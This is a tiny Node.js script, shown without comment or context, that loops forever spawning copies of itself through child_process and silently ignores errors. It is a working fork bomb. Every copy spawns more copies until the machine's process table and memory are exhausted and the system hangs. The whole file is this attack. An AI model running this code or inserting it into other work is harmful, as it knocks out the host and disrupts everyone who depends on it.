const { spawn } = require('child_process');
for (;;) {
  try {
    spawn(process.execPath, [__filename]);
  } catch (e) {}
}
